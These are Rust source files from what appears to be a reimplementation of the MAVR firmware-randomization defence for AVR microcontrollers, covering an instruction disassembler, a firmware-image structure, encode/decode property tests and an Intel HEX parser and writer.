    pub addr: u32,
    /// The decoded instruction.
    pub insn: Insn,
}

impl fmt::Display for Line {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:6x}\t{}", self.addr, self.insn)
    }
}

/// Disassemble `len` bytes of `image` starting at byte address `start`.
///
/// Decoding proceeds linearly, the way the paper's gadget listings are read;
/// a trailing half-instruction at the end of the range is dropped.
pub fn disassemble(image: &[u8], start: u32, len: u32) -> Vec<Line> {
    let mut out = Vec::new();
    let mut addr = start;
    let end = start.saturating_add(len).min(image.len() as u32);
    while addr + 1 < end {
        match decode_at(image, addr as usize) {
            Some((insn, words)) => {
                out.push(Line { addr, insn });
                addr += words * 2;
            }
            None => break,
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::encode::encode_to_bytes;
    use crate::Reg;

    #[test]
    fn formats_match_paper_style() {
        assert_eq!(
            Insn::Out {
                a: 0x3e,
                r: Reg::R29
            }
            .to_string(),
            "out 0x3e, r29"
        );
        assert_eq!(Insn::Pop { d: Reg::R28 }.to_string(), "pop r28");
        assert_eq!(
            Insn::Std {
                idx: YZ::Y,
                q: 1,
                r: Reg::R5
            }
            .to_string(),
            "std Y+1, r5"
        );
        assert_eq!(Insn::Ret.to_string(), "ret");
        assert_eq!(
            Insn::Ldi {
                d: Reg::R22,
                k: 0xe8
            }
            .to_string(),
            "ldi r22, 0xe8"
        );
        assert_eq!(Insn::Rcall { k: 455 }.to_string(), "rcall .+912");
        assert_eq!(Insn::Brbs { s: 1, k: -3 }.to_string(), "breq .-4");
        assert_eq!(Insn::Jmp { k: 0x100 }.to_string(), "jmp 0x200");
        assert_eq!(
            Insn::Ldd {
                d: Reg::R4,
                idx: YZ::Z,
                q: 0
            }
            .to_string(),
            "ld r4, Z"
        );
        assert_eq!(Insn::Invalid(0xffff).to_string(), ".word 0xffff");
    }

    #[test]
    fn listing_walks_mixed_widths() {
        let bytes = encode_to_bytes(&[
            Insn::Push { r: Reg::R28 },
            Insn::Call { k: 0x1234 },
            Insn::Ret,
        ])
        .unwrap();
        let lines = disassemble(&bytes, 0, bytes.len() as u32);
        assert_eq!(lines.len(), 3);
        assert_eq!(lines[0].addr, 0);
        assert_eq!(lines[1].addr, 2);
        assert_eq!(lines[2].addr, 6);
        assert_eq!(lines[2].insn, Insn::Ret);
        assert_eq!(lines[1].to_string(), "     2\tcall 0x2468");
    }

    #[test]
    fn listing_stops_at_range_end() {
        let bytes = encode_to_bytes(&[Insn::Nop, Insn::Nop]).unwrap();
        assert_eq!(disassemble(&bytes, 0, 2).len(), 1);
        assert_eq!(disassemble(&bytes, 0, 3).len(), 1);
        assert!(disassemble(&bytes, 10, 4).is_empty());
    }
}
