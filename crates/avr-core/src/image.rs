//! The firmware-image vocabulary shared by the assembler (`avr-asm`), the
//! randomizer (`mavr`) and the attack library (`rop`).
//!
//! A [`FirmwareImage`] is the flat program-memory image plus exactly the
//! side information the paper's preprocessing phase extracts from the ELF
//! file (§VI-B2): the sorted list of function symbols and the addresses of
//! function pointers embedded in constant/data sections.

use crate::device::Device;

/// Classification of a symbol in the image.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SymbolKind {
    /// An executable function block — the unit MAVR shuffles.
    Function,
    /// A non-executable object (constant table, data initializer).
    Object,
    /// Fixed-location code that must not move (interrupt vector table,
    /// bootloader stub). The paper notes the serial bootloader "must sit at
    /// a fixed location" (§VI-B4).
    Fixed,
}

/// One symbol from the (pre-strip) ELF symbol table.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Symbol {
    /// Symbol name.
    pub name: String,
    /// Byte address within program memory.
    pub addr: u32,
    /// Size in bytes.
    pub size: u32,
    /// Symbol classification.
    pub kind: SymbolKind,
}

impl Symbol {
    /// Exclusive end address.
    pub fn end(&self) -> u32 {
        self.addr + self.size
    }

    /// Whether `addr` falls inside this symbol.
    pub fn contains(&self, addr: u32) -> bool {
        addr >= self.addr && addr < self.end()
    }
}

/// A flat AVR program-memory image with symbol and pointer metadata.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FirmwareImage {
    /// The device this image targets.
    pub device: Device,
    /// Raw program memory, little-endian words, starting at flash address 0.
    pub bytes: Vec<u8>,
    /// All symbols, sorted by ascending address.
    pub symbols: Vec<Symbol>,
    /// Byte offset where executable code ends; everything at or above this
    /// offset is constant/data storage. The streaming patcher uses this to
    /// decide between instruction patching and pointer patching (§VI-B3).
    pub text_end: u32,
    /// Byte offsets (within `bytes`) of 16-bit **word-address** function
    /// pointers embedded in constant/data sections — C++ vtables and global
    /// call-routing arrays in the paper (§VI-B2).
    pub fn_ptr_locs: Vec<u32>,
}

impl FirmwareImage {
    /// Create an empty image for `device`.
    pub fn new(device: Device) -> Self {
        FirmwareImage {
            device,
            bytes: Vec::new(),
            symbols: Vec::new(),
            text_end: 0,
            fn_ptr_locs: Vec::new(),
        }
    }

    /// Total code size in bytes (the quantity in the paper's Table III).
    pub fn code_size(&self) -> u32 {
        self.bytes.len() as u32
    }

    /// Read the 16-bit word at byte offset `addr`.
    ///
    /// # Panics
    ///
    /// Panics if `addr + 1` is out of bounds or `addr` is odd.
    pub fn read_word(&self, addr: u32) -> u16 {
        assert!(addr.is_multiple_of(2), "unaligned word read at {addr:#x}");
        let a = addr as usize;
        u16::from_le_bytes([self.bytes[a], self.bytes[a + 1]])
    }

    /// Write the 16-bit word at byte offset `addr`.
    ///
    /// # Panics
    ///
    /// Panics if `addr + 1` is out of bounds or `addr` is odd.
    pub fn write_word(&mut self, addr: u32, w: u16) {
        assert!(addr.is_multiple_of(2), "unaligned word write at {addr:#x}");
        let a = addr as usize;
        self.bytes[a..a + 2].copy_from_slice(&w.to_le_bytes());
    }

    /// Look up a symbol by name.
    pub fn symbol(&self, name: &str) -> Option<&Symbol> {
        self.symbols.iter().find(|s| s.name == name)
    }

    /// The function symbols in address order — the set MAVR permutes.
    pub fn functions(&self) -> impl Iterator<Item = &Symbol> {
        self.symbols
            .iter()
            .filter(|s| s.kind == SymbolKind::Function)
    }

    /// Number of movable function symbols (the paper's Table I metric).
    pub fn function_count(&self) -> usize {
        self.functions().count()
    }

    /// The symbol with the largest start address ≤ `addr`, by binary search —
    /// the lookup the paper's patcher performs for switch-table trampoline
    /// targets that point *into* a function (§VI-B3).
    pub fn symbol_at_or_before(&self, addr: u32) -> Option<&Symbol> {
        let idx = self.symbols.partition_point(|s| s.addr <= addr);
        idx.checked_sub(1).map(|i| &self.symbols[i])
    }

    /// The symbol containing `addr`, if any.
    pub fn symbol_containing(&self, addr: u32) -> Option<&Symbol> {
        self.symbol_at_or_before(addr).filter(|s| s.contains(addr))
    }

    /// Validate internal consistency; returns a description of the first
    /// problem found.
    pub fn validate(&self) -> Result<(), String> {
        if !self.bytes.len().is_multiple_of(2) {
            return Err(format!("image length {} is odd", self.bytes.len()));
        }
        if self.bytes.len() as u32 > self.device.flash_bytes {
            return Err(format!(
                "image ({} bytes) exceeds {} flash ({} bytes)",
                self.bytes.len(),
                self.device.name,
                self.device.flash_bytes
            ));
        }
        if self.text_end as usize > self.bytes.len() {
            return Err(format!(
                "text_end {:#x} beyond image end {:#x}",
                self.text_end,
                self.bytes.len()
            ));
        }
        let mut prev_addr = 0u32;
        for (i, s) in self.symbols.iter().enumerate() {
            if i > 0 && s.addr < prev_addr {
                return Err(format!("symbol {} out of address order", s.name));
            }
            prev_addr = s.addr;
            if s.end() as usize > self.bytes.len() {
                return Err(format!("symbol {} extends past image end", s.name));
            }
            if s.addr % 2 != 0 {
                return Err(format!("symbol {} at odd address {:#x}", s.name, s.addr));
            }
        }
        for &loc in &self.fn_ptr_locs {
            if loc as usize + 2 > self.bytes.len() {
                return Err(format!("function pointer loc {loc:#x} out of bounds"));
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::device::ATMEGA2560;

    fn sample() -> FirmwareImage {
        let mut img = FirmwareImage::new(ATMEGA2560);
        img.bytes = vec![0; 64];
        img.symbols = vec![
            Symbol {
                name: "__vectors".into(),
                addr: 0,
                size: 8,
                kind: SymbolKind::Fixed,
            },
            Symbol {
                name: "main".into(),
                addr: 8,
                size: 20,
                kind: SymbolKind::Function,
            },
            Symbol {
                name: "loop_fn".into(),
                addr: 28,
                size: 16,
                kind: SymbolKind::Function,
            },
            Symbol {
                name: "table".into(),
                addr: 44,
                size: 8,
                kind: SymbolKind::Object,
            },
        ];
        img.text_end = 44;
        img
    }

    #[test]
    fn word_round_trip() {
        let mut img = sample();
        img.write_word(10, 0xbeef);
        assert_eq!(img.read_word(10), 0xbeef);
        assert_eq!(img.bytes[10], 0xef);
        assert_eq!(img.bytes[11], 0xbe);
    }

    #[test]
    #[should_panic(expected = "unaligned")]
    fn odd_read_panics() {
        sample().read_word(1);
    }

    #[test]
    fn symbol_queries() {
        let img = sample();
        assert_eq!(img.function_count(), 2);
        assert_eq!(img.symbol("main").unwrap().addr, 8);
        assert_eq!(img.symbol_at_or_before(9).unwrap().name, "main");
        assert_eq!(img.symbol_at_or_before(28).unwrap().name, "loop_fn");
        assert_eq!(img.symbol_containing(27).unwrap().name, "main");
        assert!(img.symbol_at_or_before(0).is_some());
        // Gap between loop_fn end (44) covered by table at 44.
        assert_eq!(img.symbol_containing(45).unwrap().name, "table");
    }

    #[test]
    fn validation_catches_problems() {
        let img = sample();
        assert!(img.validate().is_ok());

        let mut bad = sample();
        bad.bytes.push(0);
        assert!(bad.validate().unwrap_err().contains("odd"));

        let mut bad = sample();
        bad.symbols.swap(1, 2);
        assert!(bad.validate().unwrap_err().contains("order"));

        let mut bad = sample();
        bad.symbols[3].size = 1000;
        assert!(bad.validate().unwrap_err().contains("past image end"));

        let mut bad = sample();
        bad.fn_ptr_locs.push(63);
        assert!(bad.validate().unwrap_err().contains("out of bounds"));

        let mut bad = sample();
        bad.text_end = 100;
        assert!(bad.validate().is_err());
    }
}
