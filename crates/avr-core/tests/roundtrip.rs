//! Property tests: encode ∘ decode = identity over the whole instruction set.

use avr_core::decode::decode;
use avr_core::encode::{encode, encode_to_bytes};
use avr_core::{Insn, PtrReg, Reg, YZ};
use proptest::prelude::*;

fn any_reg() -> impl Strategy<Value = Reg> {
    (0u8..=31).prop_map(Reg::new)
}

fn upper_reg() -> impl Strategy<Value = Reg> {
    (16u8..=31).prop_map(Reg::new)
}

fn narrow_reg() -> impl Strategy<Value = Reg> {
    (16u8..=23).prop_map(Reg::new)
}

fn even_reg() -> impl Strategy<Value = Reg> {
    (0u8..=15).prop_map(|n| Reg::new(n * 2))
}

fn adiw_reg() -> impl Strategy<Value = Reg> {
    prop_oneof![
        Just(Reg::R24),
        Just(Reg::R26),
        Just(Reg::R28),
        Just(Reg::R30)
    ]
}

fn ptr_mode() -> impl Strategy<Value = PtrReg> {
    prop_oneof![
        Just(PtrReg::X),
        Just(PtrReg::XPostInc),
        Just(PtrReg::XPreDec),
        Just(PtrReg::YPostInc),
        Just(PtrReg::YPreDec),
        Just(PtrReg::ZPostInc),
        Just(PtrReg::ZPreDec),
    ]
}

fn yz() -> impl Strategy<Value = YZ> {
    prop_oneof![Just(YZ::Y), Just(YZ::Z)]
}

fn any_insn() -> impl Strategy<Value = Insn> {
    let nullary = prop_oneof![
        Just(Insn::Nop),
        Just(Insn::Ret),
        Just(Insn::Reti),
        Just(Insn::Icall),
        Just(Insn::Eicall),
        Just(Insn::Ijmp),
        Just(Insn::Eijmp),
        Just(Insn::Sleep),
        Just(Insn::Break),
        Just(Insn::Wdr),
        Just(Insn::Spm),
        Just(Insn::SpmZPostInc),
        Just(Insn::Lpm0),
        Just(Insn::Elpm0),
    ];
    let two_reg = (any_reg(), any_reg()).prop_flat_map(|(d, r)| {
        prop_oneof![
            Just(Insn::Add { d, r }),
            Just(Insn::Adc { d, r }),
            Just(Insn::Sub { d, r }),
            Just(Insn::Sbc { d, r }),
            Just(Insn::And { d, r }),
            Just(Insn::Or { d, r }),
            Just(Insn::Eor { d, r }),
            Just(Insn::Cp { d, r }),
            Just(Insn::Cpc { d, r }),
            Just(Insn::Cpse { d, r }),
            Just(Insn::Mov { d, r }),
            Just(Insn::Mul { d, r }),
        ]
    });
    let imm = (upper_reg(), any::<u8>()).prop_flat_map(|(d, k)| {
        prop_oneof![
            Just(Insn::Ldi { d, k }),
            Just(Insn::Cpi { d, k }),
            Just(Insn::Subi { d, k }),
            Just(Insn::Sbci { d, k }),
            Just(Insn::Ori { d, k }),
            Just(Insn::Andi { d, k }),
        ]
    });
    let one_reg = any_reg().prop_flat_map(|d| {
        prop_oneof![
            Just(Insn::Com { d }),
            Just(Insn::Neg { d }),
            Just(Insn::Swap { d }),
            Just(Insn::Inc { d }),
            Just(Insn::Dec { d }),
            Just(Insn::Asr { d }),
            Just(Insn::Lsr { d }),
            Just(Insn::Ror { d }),
            Just(Insn::Push { r: d }),
            Just(Insn::Pop { d }),
        ]
    });
    let mem = prop_oneof![
        (any_reg(), ptr_mode()).prop_map(|(d, ptr)| Insn::Ld { d, ptr }),
        (any_reg(), ptr_mode()).prop_map(|(r, ptr)| Insn::St { ptr, r }),
        (any_reg(), yz(), 0u8..=63).prop_map(|(d, idx, q)| Insn::Ldd { d, idx, q }),
        (any_reg(), yz(), 0u8..=63).prop_map(|(r, idx, q)| Insn::Std { idx, q, r }),
        (any_reg(), any::<u16>()).prop_map(|(d, k)| Insn::Lds { d, k }),
        (any_reg(), any::<u16>()).prop_map(|(r, k)| Insn::Sts { k, r }),
        (any_reg(), any::<bool>()).prop_map(|(d, post_inc)| Insn::Lpm { d, post_inc }),
        (any_reg(), any::<bool>()).prop_map(|(d, post_inc)| Insn::Elpm { d, post_inc }),
        (any_reg(), 0u8..=63).prop_map(|(d, a)| Insn::In { d, a }),
        (any_reg(), 0u8..=63).prop_map(|(r, a)| Insn::Out { a, r }),
    ];
    let flow = prop_oneof![
        (0u32..0x40_0000).prop_map(|k| Insn::Jmp { k }),
        (0u32..0x40_0000).prop_map(|k| Insn::Call { k }),
        (-2048i16..=2047).prop_map(|k| Insn::Rjmp { k }),
        (-2048i16..=2047).prop_map(|k| Insn::Rcall { k }),
        (0u8..=7, -64i8..=63).prop_map(|(s, k)| Insn::Brbs { s, k }),
        (0u8..=7, -64i8..=63).prop_map(|(s, k)| Insn::Brbc { s, k }),
    ];
    let bits = prop_oneof![
        (0u8..=7).prop_map(|s| Insn::Bset { s }),
        (0u8..=7).prop_map(|s| Insn::Bclr { s }),
        (any_reg(), 0u8..=7).prop_map(|(d, b)| Insn::Bst { d, b }),
        (any_reg(), 0u8..=7).prop_map(|(d, b)| Insn::Bld { d, b }),
        (any_reg(), 0u8..=7).prop_map(|(r, b)| Insn::Sbrc { r, b }),
        (any_reg(), 0u8..=7).prop_map(|(r, b)| Insn::Sbrs { r, b }),
        (0u8..=31, 0u8..=7).prop_map(|(a, b)| Insn::Sbi { a, b }),
        (0u8..=31, 0u8..=7).prop_map(|(a, b)| Insn::Cbi { a, b }),
        (0u8..=31, 0u8..=7).prop_map(|(a, b)| Insn::Sbic { a, b }),
        (0u8..=31, 0u8..=7).prop_map(|(a, b)| Insn::Sbis { a, b }),
    ];
    let pairs = prop_oneof![
        (even_reg(), even_reg()).prop_map(|(d, r)| Insn::Movw { d, r }),
        (upper_reg(), upper_reg()).prop_map(|(d, r)| Insn::Muls { d, r }),
        (narrow_reg(), narrow_reg()).prop_map(|(d, r)| Insn::Mulsu { d, r }),
        (narrow_reg(), narrow_reg()).prop_map(|(d, r)| Insn::Fmul { d, r }),
        (narrow_reg(), narrow_reg()).prop_map(|(d, r)| Insn::Fmuls { d, r }),
        (narrow_reg(), narrow_reg()).prop_map(|(d, r)| Insn::Fmulsu { d, r }),
        (adiw_reg(), 0u8..=63).prop_map(|(d, k)| Insn::Adiw { d, k }),
        (adiw_reg(), 0u8..=63).prop_map(|(d, k)| Insn::Sbiw { d, k }),
    ];
    prop_oneof![nullary, two_reg, imm, one_reg, mem, flow, bits, pairs]
}

proptest! {
    #[test]
    fn encode_decode_round_trip(insn in any_insn()) {
        let words = encode(&insn).expect("valid operands must encode");
        let (decoded, width) = decode(&words);
        prop_assert_eq!(decoded, insn);
        prop_assert_eq!(width as usize, words.len());
        prop_assert_eq!(width, insn.words());
    }

    #[test]
    fn byte_stream_round_trip(insns in proptest::collection::vec(any_insn(), 1..40)) {
        let bytes = encode_to_bytes(&insns).unwrap();
        let mut off = 0usize;
        for insn in &insns {
            let (decoded, width) = avr_core::decode::decode_at(&bytes, off).unwrap();
            prop_assert_eq!(&decoded, insn);
            off += (width * 2) as usize;
        }
        prop_assert_eq!(off, bytes.len());
    }

    #[test]
    fn display_never_panics(insn in any_insn()) {
        let s = insn.to_string();
        prop_assert!(!s.is_empty());
        // brbs/brbc display as their condition aliases (breq, brne, ...);
        // ldd/std with q = 0 display as the plain ld/st forms.
        let aliased = matches!(
            insn,
            Insn::Brbs { .. }
                | Insn::Brbc { .. }
                | Insn::Ldd { q: 0, .. }
                | Insn::Std { q: 0, .. }
        );
        if !aliased {
            prop_assert!(s.starts_with(insn.mnemonic().split(' ').next().unwrap()));
        }
    }
}
