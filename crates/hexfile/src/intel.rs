//! Intel HEX encoding and decoding.

use crate::ParseError;

const RECORD_DATA: u8 = 0x00;
const RECORD_EOF: u8 = 0x01;
const RECORD_EXT_LINEAR: u8 = 0x04;

/// Serialize `bytes` (loaded at byte address `base`) as Intel HEX text with
/// 16-byte data records and type-04 extended linear address records at every
/// 64 KiB boundary crossing.
pub fn write_ihex(bytes: &[u8], base: u32) -> String {
    let mut out = String::new();
    let mut upper = u32::MAX; // force an initial ELA record if base > 0xffff
    if base <= 0xffff && (base as usize + bytes.len()) <= 0x1_0000 {
        upper = 0; // small images skip the ELA record, like avr-objcopy
    }
    let mut addr = base;
    for chunk in bytes.chunks(16) {
        // A record must not cross a 64 KiB boundary.
        let mut off = 0usize;
        while off < chunk.len() {
            let hi = addr >> 16;
            if hi != upper {
                upper = hi;
                let payload = [(hi >> 8) as u8, hi as u8];
                push_record(&mut out, 0, RECORD_EXT_LINEAR, &payload);
            }
            let room = (0x1_0000 - (addr & 0xffff)) as usize;
            let take = room.min(chunk.len() - off);
            push_record(
                &mut out,
                (addr & 0xffff) as u16,
                RECORD_DATA,
                &chunk[off..off + take],
            );
            addr += take as u32;
            off += take;
        }
    }
    push_record(&mut out, 0, RECORD_EOF, &[]);
    out
}

fn push_record(out: &mut String, addr: u16, rtype: u8, payload: &[u8]) {
    use std::fmt::Write;
    let mut sum = payload.len() as u8;
    sum = sum
        .wrapping_add((addr >> 8) as u8)
        .wrapping_add(addr as u8)
        .wrapping_add(rtype);
    write!(out, ":{:02X}{:04X}{:02X}", payload.len(), addr, rtype).unwrap();
    for &b in payload {
        write!(out, "{b:02X}").unwrap();
        sum = sum.wrapping_add(b);
    }
    writeln!(out, "{:02X}", sum.wrapping_neg()).unwrap();
}

/// Parse Intel HEX text into `(base_address, bytes)`.
///
/// The returned byte vector is contiguous from the lowest loaded address;
/// gaps are filled with `0xff` (erased flash). Lines starting with `;` are
/// skipped, which is how the MAVR container directives stay compatible with
/// standard loaders.
pub fn parse_ihex(text: &str) -> Result<(u32, Vec<u8>), ParseError> {
    let mut chunks: Vec<(u32, Vec<u8>)> = Vec::new();
    let mut upper: u32 = 0;
    let mut saw_eof = false;
    for (i, raw) in text.lines().enumerate() {
        let line = i + 1;
        let t = raw.trim();
        if t.is_empty() || t.starts_with(';') {
            continue;
        }
        if saw_eof {
            break;
        }
        let Some(hex) = t.strip_prefix(':') else {
            return Err(ParseError::BadStartCode { line });
        };
        let bytes = decode_hex(hex).ok_or(ParseError::BadHexDigits { line })?;
        if bytes.len() < 5 {
            return Err(ParseError::BadLength { line });
        }
        let count = bytes[0] as usize;
        if bytes.len() != count + 5 {
            return Err(ParseError::BadLength { line });
        }
        let sum: u8 = bytes[..bytes.len() - 1]
            .iter()
            .fold(0u8, |a, &b| a.wrapping_add(b));
        let expected = sum.wrapping_neg();
        let found = bytes[bytes.len() - 1];
        if expected != found {
            return Err(ParseError::BadChecksum {
                line,
                expected,
                found,
            });
        }
        let addr = (u32::from(bytes[1]) << 8) | u32::from(bytes[2]);
        let rtype = bytes[3];
        let payload = &bytes[4..bytes.len() - 1];
        match rtype {
            RECORD_DATA => chunks.push(((upper << 16) | addr, payload.to_vec())),
            RECORD_EOF => saw_eof = true,
            RECORD_EXT_LINEAR => {
                if payload.len() != 2 {
                    return Err(ParseError::BadLength { line });
                }
                upper = (u32::from(payload[0]) << 8) | u32::from(payload[1]);
            }
            // Start-address records carry no data we need.
            0x03 | 0x05 => {}
            other => {
                return Err(ParseError::UnknownRecordType {
                    line,
                    record_type: other,
                })
            }
        }
    }
    if !saw_eof {
        return Err(ParseError::MissingEof);
    }
    if chunks.is_empty() {
        return Ok((0, Vec::new()));
    }
    let base = chunks.iter().map(|(a, _)| *a).min().unwrap();
    let end = chunks
        .iter()
        .map(|(a, d)| *a as usize + d.len())
        .max()
        .unwrap();
    let mut image = vec![0xff; end - base as usize];
    for (a, d) in chunks {
        let off = (a - base) as usize;
        image[off..off + d.len()].copy_from_slice(&d);
    }
    Ok((base, image))
}

fn decode_hex(s: &str) -> Option<Vec<u8>> {
    if !s.len().is_multiple_of(2) {
        return None;
    }
    s.as_bytes()
        .chunks(2)
        .map(|pair| {
            let hi = (pair[0] as char).to_digit(16)?;
            let lo = (pair[1] as char).to_digit(16)?;
            Some((hi * 16 + lo) as u8)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn small_image_round_trip() {
        let data: Vec<u8> = (0u16..100).map(|i| i as u8).collect();
        let text = write_ihex(&data, 0);
        let (base, parsed) = parse_ihex(&text).unwrap();
        assert_eq!(base, 0);
        assert_eq!(parsed, data);
        assert!(text.ends_with(":00000001FF\n"));
    }

    #[test]
    fn large_image_crosses_64k_boundaries() {
        // 200 KiB image — the Arduplane scale — needs ELA records.
        let data: Vec<u8> = (0..200 * 1024).map(|i| (i * 7) as u8).collect();
        let text = write_ihex(&data, 0);
        assert!(text.contains(":02000004"), "must emit type-04 records");
        let (base, parsed) = parse_ihex(&text).unwrap();
        assert_eq!(base, 0);
        assert_eq!(parsed, data);
    }

    #[test]
    fn nonzero_base() {
        let data = vec![1, 2, 3, 4];
        let text = write_ihex(&data, 0x2_0010);
        let (base, parsed) = parse_ihex(&text).unwrap();
        assert_eq!(base, 0x2_0010);
        assert_eq!(parsed, data);
    }

    #[test]
    fn known_record_format() {
        // The canonical example record.
        let text = write_ihex(
            &[
                0x21, 0x46, 0x01, 0x36, 0x01, 0x21, 0x47, 0x01, 0x36, 0x00, 0x7E, 0xFE, 0x09, 0xD2,
                0x19, 0x01,
            ],
            0x0100,
        );
        assert!(text.starts_with(":10010000214601360121470136007EFE09D21901"));
    }

    #[test]
    fn checksum_rejected() {
        let err = parse_ihex(":0100000000FE\n:00000001FF\n").unwrap_err();
        assert!(matches!(err, ParseError::BadChecksum { .. }));
    }

    #[test]
    fn missing_eof_rejected() {
        let err = parse_ihex(":0100000000FF\n").unwrap_err();
        assert_eq!(err, ParseError::MissingEof);
    }

    #[test]
    fn bad_start_code_rejected() {
        let err = parse_ihex("10010000\n").unwrap_err();
        assert!(matches!(err, ParseError::BadStartCode { line: 1 }));
    }

    #[test]
    fn comments_are_skipped() {
        let text = format!("; MAVR directive line\n{}", write_ihex(&[9], 0));
        let (_, parsed) = parse_ihex(&text).unwrap();
        assert_eq!(parsed, vec![9]);
    }

    #[test]
    fn gaps_fill_with_erased_flash() {
        let mut text = String::new();
        super::push_record(&mut text, 0, 0, &[1]);
        super::push_record(&mut text, 4, 0, &[2]);
        super::push_record(&mut text, 0, 1, &[]);
        let (base, parsed) = parse_ihex(&text).unwrap();
        assert_eq!(base, 0);
        assert_eq!(parsed, vec![1, 0xff, 0xff, 0xff, 2]);
    }

    #[test]
    fn empty_input() {
        assert_eq!(parse_ihex(":00000001FF\n").unwrap(), (0, vec![]));
    }
}
