//! Intel HEX files and the MAVR prepended-symbol-table container.
//!
//! The paper's preprocessing phase (§VI-B2) parses the pre-strip ELF symbol
//! table on the host, then *prepends* the important symbol information to
//! the Intel HEX file that gets uploaded to the MAVR external flash chip, so
//! that the master processor can move functions as blocks and update
//! function pointers at runtime.
//!
//! This crate implements both halves:
//!
//! * [`intel`] — a standard Intel HEX reader/writer (with type-04 extended
//!   linear address records, required for the ATmega2560's 256 KiB flash),
//! * [`container`] — the MAVR container: symbol table + function-pointer
//!   list + text-end marker prepended to the HEX body as `;`-comment lines
//!   (Intel HEX loaders skip them; the MAVR master parses them).

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod container;
pub mod intel;

pub use container::MavrContainer;
pub use intel::{parse_ihex, write_ihex};

/// Errors from parsing HEX files or MAVR containers.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParseError {
    /// A line did not start with `:` and was not a `;` comment/directive.
    BadStartCode {
        /// 1-based line number.
        line: usize,
    },
    /// Non-hex characters or odd digit count.
    BadHexDigits {
        /// 1-based line number.
        line: usize,
    },
    /// Record length field disagrees with actual byte count.
    BadLength {
        /// 1-based line number.
        line: usize,
    },
    /// Checksum mismatch.
    BadChecksum {
        /// 1-based line number.
        line: usize,
        /// Expected checksum byte.
        expected: u8,
        /// Checksum byte found on the line.
        found: u8,
    },
    /// Unsupported record type.
    UnknownRecordType {
        /// 1-based line number.
        line: usize,
        /// The record type byte.
        record_type: u8,
    },
    /// No type-01 EOF record at the end.
    MissingEof,
    /// A MAVR directive line was malformed.
    BadDirective {
        /// 1-based line number.
        line: usize,
        /// Explanation.
        reason: String,
    },
}

impl std::fmt::Display for ParseError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ParseError::BadStartCode { line } => write!(f, "line {line}: missing ':' start code"),
            ParseError::BadHexDigits { line } => write!(f, "line {line}: invalid hex digits"),
            ParseError::BadLength { line } => write!(f, "line {line}: length mismatch"),
            ParseError::BadChecksum {
                line,
                expected,
                found,
            } => write!(
                f,
                "line {line}: checksum mismatch (expected {expected:#04x}, found {found:#04x})"
            ),
            ParseError::UnknownRecordType { line, record_type } => {
                write!(f, "line {line}: unknown record type {record_type:#04x}")
            }
            ParseError::MissingEof => write!(f, "missing EOF record"),
            ParseError::BadDirective { line, reason } => {
                write!(f, "line {line}: bad MAVR directive: {reason}")
            }
        }
    }
}

impl std::error::Error for ParseError {}
